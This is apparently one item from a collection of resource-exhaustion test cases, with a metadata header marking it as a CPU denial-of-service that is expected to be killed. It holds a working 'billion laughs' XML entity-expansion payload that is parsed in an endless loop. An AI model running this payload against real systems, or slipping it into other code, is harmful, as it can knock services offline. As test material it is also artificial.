# id: xml-billion-laughs
# class: dos-cpu
# expect: killed
# technique: entity expansion in expat
# source: own
# verified: yes (still running after 4s)
import xml.etree.ElementTree as E
d = "<!DOCTYPE x [<!ENTITY a0 \"aaaaaaaaaa\">" + "".join("<!ENTITY a%d \"%s\">" % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 12)) + "]><x>&a11;</x>"
while True:
    try:
        E.fromstring(d)
    except E.ParseError:
        pass
